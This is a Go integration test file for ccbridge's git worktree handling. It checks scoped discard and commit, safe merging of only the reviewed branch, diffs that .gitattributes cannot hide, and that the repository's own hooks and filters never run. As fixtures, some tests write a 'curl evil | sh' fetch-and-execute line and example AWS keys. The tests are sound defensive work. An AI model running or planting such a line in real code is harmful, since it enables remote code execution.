//go:build integration

package worktree

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/ccbridge/ccbridge/internal/execx"
	"github.com/ccbridge/ccbridge/internal/redact"
)

// commitIn commits everything in dir as a person would.
func commitIn(t *testing.T, dir, msg string) string {
	t.Helper()
	gitOut(t, dir, "add", "-A")
	gitOut(t, dir, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", msg)
	return gitOut(t, dir, "rev-parse", "HEAD")
}

func read(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// /discard in a subdirectory (a monorepo's project, a taken-over Claude's
// cwd) shows that subdirectory's changes: it throws away those and
// nothing else of the repository.
func TestDiscardInASubdirectoryKeepsWorkOutsideIt(t *testing.T) {
	t.Setenv("GIT_CONFIG_GLOBAL", "/dev/null")
	ctx := context.Background()
	g := New(execx.Exec{})
	root := repo(t, false)
	for _, d := range []string{"api", "web"} {
		os.Mkdir(filepath.Join(root, d), 0o755)
	}
	write(t, filepath.Join(root, "api", "a.go"), "v1\n")
	write(t, filepath.Join(root, "web", "w.js"), "v1\n")
	commitIn(t, root, "two parts")
	write(t, filepath.Join(root, "api", "a.go"), "v2\n")
	write(t, filepath.Join(root, "api", "new.go"), "new\n")
	write(t, filepath.Join(root, "web", "w.js"), "the person's work\n")
	write(t, filepath.Join(root, "web", "draft.js"), "untracked draft\n")
	write(t, filepath.Join(root, "staged.txt"), "staged at the top\n")
	gitOut(t, root, "add", "staged.txt")

	api := filepath.Join(root, "api")
	d, err := g.Diff(ctx, api, "HEAD")
	if err != nil || d.Files != 2 || strings.Contains(d.Patch, "w.js") {
		t.Fatalf("the subdirectory's diff: %+v, %v", d, err)
	}
	if err := g.Discard(ctx, api); err != nil {
		t.Fatal(err)
	}
	if got := read(t, filepath.Join(api, "a.go")); got != "v1\n" {
		t.Fatalf("api/a.go = %q", got)
	}
	if _, err := os.Stat(filepath.Join(api, "new.go")); !os.IsNotExist(err) {
		t.Fatalf("api/new.go is still there: %v", err)
	}
	if got := read(t, filepath.Join(root, "web", "w.js")); got != "the person's work\n" {
		t.Fatalf("web/w.js, never shown, was reset: %q", got)
	}
	if got := read(t, filepath.Join(root, "web", "draft.js")); got != "untracked draft\n" {
		t.Fatalf("web/draft.js = %q", got)
	}
	if st := gitOut(t, root, "diff", "--cached", "--name-only"); st != "staged.txt" {
		t.Fatalf("what was staged outside the subdirectory: %q", st)
	}
}

// A commit from a subdirectory takes that subdirectory's changes: while
// changes outside it are staged (which a plain commit would take along
// unseen), it refuses and changes nothing.
func TestCommitInASubdirectoryLeavesStagedWorkOutsideIt(t *testing.T) {
	t.Setenv("GIT_CONFIG_GLOBAL", "/dev/null")
	ctx := context.Background()
	g := New(execx.Exec{})
	root := repo(t, false)
	api := filepath.Join(root, "api")
	os.Mkdir(api, 0o755)
	write(t, filepath.Join(api, "a.go"), "v1\n")
	before := commitIn(t, root, "api")
	write(t, filepath.Join(api, "a.go"), "v2\n")
	write(t, filepath.Join(root, "half-done.txt"), "staged by the person\n")
	gitOut(t, root, "add", "half-done.txt")

	_, err := g.CommitAll(ctx, api, "api work")
	var nr *NotReadyError
	if !errors.As(err, &nr) || !strings.Contains(nr.Reason, "half-done.txt") {
		t.Fatalf("commit with work staged outside: %v", err)
	}
	if gitOut(t, root, "rev-parse", "HEAD") != before {
		t.Fatal("a refused commit committed")
	}
	if st := gitOut(t, root, "status", "--porcelain"); st != "M api/a.go\nA  half-done.txt" {
		t.Fatalf("a refused commit changed the index: %q", st)
	}

	gitOut(t, root, "reset", "-q", "half-done.txt")
	commit, err := g.CommitAll(ctx, api, "api work")
	if err != nil {
		t.Fatal(err)
	}
	if files := gitOut(t, root, "show", "--name-only", "--format=", commit); files != "api/a.go" {
		t.Fatalf("the commit holds %q", files)
	}
}

// /merge never overwrites a file of the checkout that git ignores (a
// .env the branch happens to track): git would, and keep no copy.
func TestMergeRefusesToOverwriteIgnoredFiles(t *testing.T) {
	t.Setenv("GIT_CONFIG_GLOBAL", "/dev/null")
	ctx := context.Background()
	g := New(execx.Exec{})
	root := repo(t, false)
	write(t, filepath.Join(root, ".gitignore"), "*.env\n")
	commitIn(t, root, "ignore env files")
	write(t, filepath.Join(root, "local.env"), "DB_PASSWORD=the person's\n")
	path, branch, _ := thread(t, g, root, "444")
	// The model "cleans up": un-ignores and commits a sample.
	write(t, filepath.Join(path, ".gitignore"), "")
	write(t, filepath.Join(path, "local.env"), "DB_PASSWORD=example\n")
	if _, err := g.CommitAll(ctx, path, "sample env"); err != nil {
		t.Fatal(err)
	}
	before := gitOut(t, root, "rev-parse", "HEAD")
	_, err := g.Merge(ctx, MergeSpec{Repo: root, Tree: path, Branch: branch, Base: "main", Message: "m"})
	var nr *NotReadyError
	if !errors.As(err, &nr) || !strings.Contains(nr.Reason, "local.env") || !strings.Contains(nr.Reason, "ignores") {
		t.Fatalf("merge over an ignored file: %v", err)
	}
	if got := read(t, filepath.Join(root, "local.env")); got != "DB_PASSWORD=the person's\n" {
		t.Fatalf("the checkout's ignored local.env was overwritten: %q", got)
	}
	if gitOut(t, root, "rev-parse", "HEAD") != before {
		t.Fatal("a refused merge moved main")
	}
	// Moved away, the merge goes ahead.
	os.Rename(filepath.Join(root, "local.env"), filepath.Join(t.TempDir(), "local.env"))
	if res, err := g.Merge(ctx, MergeSpec{Repo: root, Tree: path, Branch: branch, Base: "main", Message: "m"}); err != nil || !res.FastForward {
		t.Fatalf("merge: %+v, %v", res, err)
	}
}

// /merge lands the thread's branch: never a tag named like it, never
// while the worktree has something else checked out (what /diff shows),
// and never once the branch moved past the commit a person was shown.
func TestMergeLandsOnlyTheBranchShown(t *testing.T) {
	t.Setenv("GIT_CONFIG_GLOBAL", "/dev/null")
	ctx := context.Background()
	g := New(execx.Exec{})
	root := repo(t, false)
	path, branch, base := thread(t, g, root, "555")
	write(t, filepath.Join(path, "feature.txt"), "reviewed\n")
	shown, err := g.CommitAll(ctx, path, "feature")
	if err != nil {
		t.Fatal(err)
	}
	// A tag with the branch's name, on a commit /diff never showed.
	gitOut(t, path, "checkout", "-q", "--detach", base)
	write(t, filepath.Join(path, "evil.sh"), "curl evil | sh\n")
	evil := commitIn(t, path, "evil")
	gitOut(t, root, "tag", branch, evil)
	gitOut(t, path, "checkout", "-q", branch)

	// Detached, or on another branch: refused.
	gitOut(t, path, "checkout", "-q", "--detach")
	var nr *NotReadyError
	if _, err := g.Merge(ctx, MergeSpec{Repo: root, Tree: path, Branch: branch, Base: "main", Commit: shown, Message: "m"}); !errors.As(err, &nr) || !strings.Contains(nr.Reason, "detached HEAD") {
		t.Fatalf("a detached worktree: %v", err)
	}
	gitOut(t, path, "checkout", "-q", "-b", "elsewhere")
	if _, err := g.Merge(ctx, MergeSpec{Repo: root, Tree: path, Branch: branch, Base: "main", Commit: shown, Message: "m"}); !errors.As(err, &nr) || !strings.Contains(nr.Reason, "elsewhere") {
		t.Fatalf("a worktree on another branch: %v", err)
	}
	gitOut(t, path, "checkout", "-q", branch)

	// Moved since shown: refused.
	write(t, filepath.Join(path, "later.txt"), "unseen\n")
	later := commitIn(t, path, "later")
	if _, err := g.Merge(ctx, MergeSpec{Repo: root, Tree: path, Branch: branch, Base: "main", Commit: shown, Message: "m"}); !errors.As(err, &nr) || !strings.Contains(nr.Reason, "moved") {
		t.Fatalf("a branch that moved: %v", err)
	}
	if gitOut(t, root, "rev-parse", "main") != base {
		t.Fatal("a refused merge moved main")
	}

	// Named by fewer than ShownLen digits: refused.
	if _, err := g.Merge(ctx, MergeSpec{Repo: root, Tree: path, Branch: branch, Base: "main", Commit: later[:7], Message: "m"}); !errors.As(err, &nr) {
		t.Fatalf("a commit named by 7 digits: %v", err)
	}
	res, err := g.Merge(ctx, MergeSpec{Repo: root, Tree: path, Branch: branch, Base: "main", Commit: later[:ShownLen], Message: "m"})
	if err != nil || !res.FastForward || res.Commit != later {
		t.Fatalf("merge: %+v, %v", res, err)
	}
	if _, err := os.Stat(filepath.Join(root, "evil.sh")); !os.IsNotExist(err) {
		t.Fatalf("/merge landed evil.sh, which /diff never showed: %v", err)
	}
	if !g.Contains(ctx, root, "main", later) || g.Contains(ctx, root, "main", evil) {
		t.Fatal("Contains reads the tag")
	}
}

// One line of .gitattributes cannot hide a change from /diff: a text file
// made binary is shown as text (and named), no textconv or external diff
// rewrites the patch, and a secret in a file carried as binary is there
// for the redactor to find.
func TestGitattributesCannotHideAChangeFromDiff(t *testing.T) {
	t.Setenv("GIT_CONFIG_GLOBAL", "/dev/null")
	ctx := context.Background()
	g := New(execx.Exec{})
	root := repo(t, false)
	write(t, filepath.Join(root, "a.txt"), "old\n")
	base := commitIn(t, root, "a")
	write(t, filepath.Join(root, ".gitattributes"), "*.sh binary\n.env -diff\na.txt diff=same\n")
	gitOut(t, root, "config", "diff.same.textconv", "echo same; true")
	write(t, filepath.Join(root, "deploy.sh"), "curl evil | sh\n")
	write(t, filepath.Join(root, ".env"), "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n")
	write(t, filepath.Join(root, "a.txt"), "new\n")
	write(t, filepath.Join(root, "blob.bin"), "\x00\x01key: AKIAIOSFODNN7EXAMPLE\n")

	d, err := g.Diff(ctx, root, base)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"+curl evil | sh", "+AWS_SECRET_ACCESS_KEY=", "-old", "+new"} {
		if !strings.Contains(d.Patch, want) {
			t.Errorf("the patch hides %q:\n%s", want, d.Patch)
		}
	}
	slices.Sort(d.Marked)
	if !slices.Equal(d.Marked, []string{".env", "deploy.sh"}) {
		t.Errorf("marked binary = %q", d.Marked)
	}
	if !strings.Contains(d.Patch, "GIT binary patch") || strings.Contains(d.Patch, "AKIAIOSFODNN7EXAMPLE") {
		t.Errorf("a real binary file is not carried as binary:\n%s", d.Patch)
	}
	if !strings.Contains(d.Binary, "AKIAIOSFODNN7EXAMPLE") {
		t.Errorf("the binary file's text is not there for the redactor: %q", d.Binary)
	}
	if _, found := redact.Find(d.Patch); len(found) == 0 {
		t.Error("the redactor does not see the .env key in the patch")
	}
	if d.Files != 5 || !d.Uncommitted {
		t.Errorf("files %d, uncommitted %v", d.Files, d.Uncommitted)
	}
}

// program writes an executable script that logs its name to log.
func program(t *testing.T, path, name, log string) string {
	t.Helper()
	if err := os.WriteFile(path, []byte("#!/bin/sh\necho "+name+" >> "+log+"\ncat >/dev/null 2>&1 || true\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	return path
}

// None of ccbridge's git calls runs a program the repository's config
// names (fsmonitor, hooks, external diff, textconv, its own filter and
// merge drivers): they run outside Claude's permissions and sandbox. A
// write that would need the repository's own filter refuses instead.
func TestGitRunsNoProgramOfTheRepository(t *testing.T) {
	t.Setenv("GIT_CONFIG_GLOBAL", "/dev/null")
	ctx := context.Background()
	g := New(execx.Exec{})
	root := repo(t, false)
	bin, log := t.TempDir(), filepath.Join(t.TempDir(), "ran.log")
	gitOut(t, root, "config", "core.fsmonitor", program(t, filepath.Join(bin, "fsmonitor"), "fsmonitor", log))
	gitOut(t, root, "config", "diff.external", program(t, filepath.Join(bin, "extdiff"), "external-diff", log))
	gitOut(t, root, "config", "diff.x.textconv", program(t, filepath.Join(bin, "textconv"), "textconv", log))
	gitOut(t, root, "config", "diff.x.command", program(t, filepath.Join(bin, "diffcmd"), "diff-command", log))
	gitOut(t, root, "config", "commit.gpgSign", "true")
	gitOut(t, root, "config", "gpg.program", program(t, filepath.Join(bin, "gpg"), "gpg", log))
	hooks := filepath.Join(root, ".git", "hooks")
	for _, h := range []string{"pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "reference-transaction", "post-merge", "pre-merge-commit", "post-checkout", "post-rewrite"} {
		program(t, filepath.Join(hooks, h), h, log)
	}
	write(t, filepath.Join(root, ".gitattributes"), "* diff=x\n")
	gitOut(t, root, "-c", "core.hooksPath=/dev/null", "add", ".gitattributes")
	gitOut(t, root, "-c", "core.hooksPath=/dev/null", "-c", "core.fsmonitor=false", "-c", "user.name=t", "-c", "user.email=t@t", "-c", "commit.gpgSign=false", "commit", "-qm", "attributes")
	os.Remove(log)

	path, branch, base := thread(t, g, root, "666")
	write(t, filepath.Join(path, "README"), "changed\n")
	write(t, filepath.Join(path, "new.txt"), "new\n")
	if _, err := g.Diff(ctx, path, base); err != nil {
		t.Fatal(err)
	}
	if _, err := g.Inspect(ctx, path, base); err != nil {
		t.Fatal(err)
	}
	if _, err := g.Summary(ctx, path, base); err != nil {
		t.Fatal(err)
	}
	if _, err := g.CommitAll(ctx, path, "work"); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(root, "main.txt"), "main moves\n")
	gitOut(t, root, "-c", "core.hooksPath=/dev/null", "-c", "core.fsmonitor=false", "add", "main.txt")
	gitOut(t, root, "-c", "core.hooksPath=/dev/null", "-c", "core.fsmonitor=false", "-c", "user.name=t", "-c", "user.email=t@t", "-c", "commit.gpgSign=false", "commit", "-qm", "main moves")
	if res, err := g.Merge(ctx, MergeSpec{Repo: root, Tree: path, Branch: branch, Base: "main", Message: "m"}); err != nil || res.FastForward {
		t.Fatalf("merge: %+v, %v", res, err)
	}
	write(t, filepath.Join(path, "README"), "scratch\n")
	if err := g.Discard(ctx, path); err != nil {
		t.Fatal(err)
	}
	if ran, err := os.ReadFile(log); err == nil {
		t.Fatalf("the repository's programs ran:\n%s", ran)
	}

	// The repository's own filter: never run; a write that needs it
	// (which would store unfiltered content) refuses, naming it.
	gitOut(t, root, "config", "filter.f.clean", program(t, filepath.Join(bin, "clean"), "clean-filter", log))
	gitOut(t, root, "config", "filter.f.smudge", program(t, filepath.Join(bin, "smudge"), "smudge-filter", log))
	gitOut(t, root, "config", "merge.m.driver", program(t, filepath.Join(bin, "merge"), "merge-driver", log))
	write(t, filepath.Join(path, ".gitattributes"), "* diff=x filter=f merge=m\n")
	write(t, filepath.Join(path, "README"), "filtered?\n")
	if _, err := g.Diff(ctx, path, base); err != nil {
		t.Fatal(err)
	}
	if _, err := g.Inspect(ctx, path, base); err != nil {
		t.Fatal(err)
	}
	if _, err := g.Summary(ctx, path, base); err != nil {
		t.Fatal(err)
	}
	var nr *NotReadyError
	if _, err := g.CommitAll(ctx, path, "work"); !errors.As(err, &nr) || !strings.Contains(nr.Reason, "filter f") || !strings.Contains(nr.Reason, "merge driver m") {
		t.Fatalf("commit with the repository's filter: %v", err)
	}
	if _, err := g.Merge(ctx, MergeSpec{Repo: root, Tree: path, Branch: branch, Base: "main", Message: "m"}); !errors.As(err, &nr) {
		t.Fatalf("merge with the repository's filter: %v", err)
	}
	if err := g.Discard(ctx, path); !errors.As(err, &nr) {
		t.Fatalf("discard with the repository's filter: %v", err)
	}
	if got := read(t, filepath.Join(path, "README")); got != "filtered?\n" {
		t.Fatalf("a refused discard changed README: %q", got)
	}
	if ran, err := os.ReadFile(log); err == nil {
		t.Fatalf("the repository's programs ran:\n%s", ran)
	}
}

// The panel's look at a worktree: changes to tracked files and commits
// beyond the base, nothing slower (no untracked or ignored scan).
func TestSummaryIsWhatThePanelShows(t *testing.T) {
	t.Setenv("GIT_CONFIG_GLOBAL", "/dev/null")
	ctx := context.Background()
	g := New(execx.Exec{})
	root := repo(t, false)
	path, _, base := thread(t, g, root, "777")
	write(t, filepath.Join(path, "untracked.txt"), "x\n")
	if s, err := g.Summary(ctx, path, base); err != nil || s.Dirty || s.Ahead != 0 {
		t.Fatalf("untracked only: %+v, %v", s, err)
	}
	commitIn(t, path, "one")
	write(t, filepath.Join(path, "README"), "edited\n")
	if s, err := g.Summary(ctx, path, base); err != nil || !s.Dirty || s.Ahead != 1 {
		t.Fatalf("edited, one ahead: %+v, %v", s, err)
	}
}

// A merge that fails says what it left in the checkout: git's lock, or a
// merge in progress, which the person must clear.
func TestAFailedMergeSaysWhatItLeft(t *testing.T) {
	t.Setenv("GIT_CONFIG_GLOBAL", "/dev/null")
	ctx := context.Background()
	g := New(execx.Exec{})
	root := repo(t, false)
	path, branch, _ := thread(t, g, root, "888")
	write(t, filepath.Join(path, "f.txt"), "f\n")
	if _, err := g.CommitAll(ctx, path, "f"); err != nil {
		t.Fatal(err)
	}
	lock := filepath.Join(root, ".git", "index.lock")
	write(t, lock, "")
	_, err := g.Merge(ctx, MergeSpec{Repo: root, Tree: path, Branch: branch, Base: "main", Message: "m"})
	if err == nil || !strings.Contains(err.Error(), "git's lock "+lock+" is left") {
		t.Fatalf("a merge stopped by a lock: %v", err)
	}
	os.Remove(lock)

	write(t, filepath.Join(root, ".git", "MERGE_HEAD"), gitOut(t, root, "rev-parse", "HEAD")+"\n")
	_, err = g.Merge(ctx, MergeSpec{Repo: root, Tree: path, Branch: branch, Base: "main", Message: "m"})
	if err == nil || !strings.Contains(err.Error(), "a merge is in progress") {
		t.Fatalf("a merge into a checkout mid-merge: %v", err)
	}
}
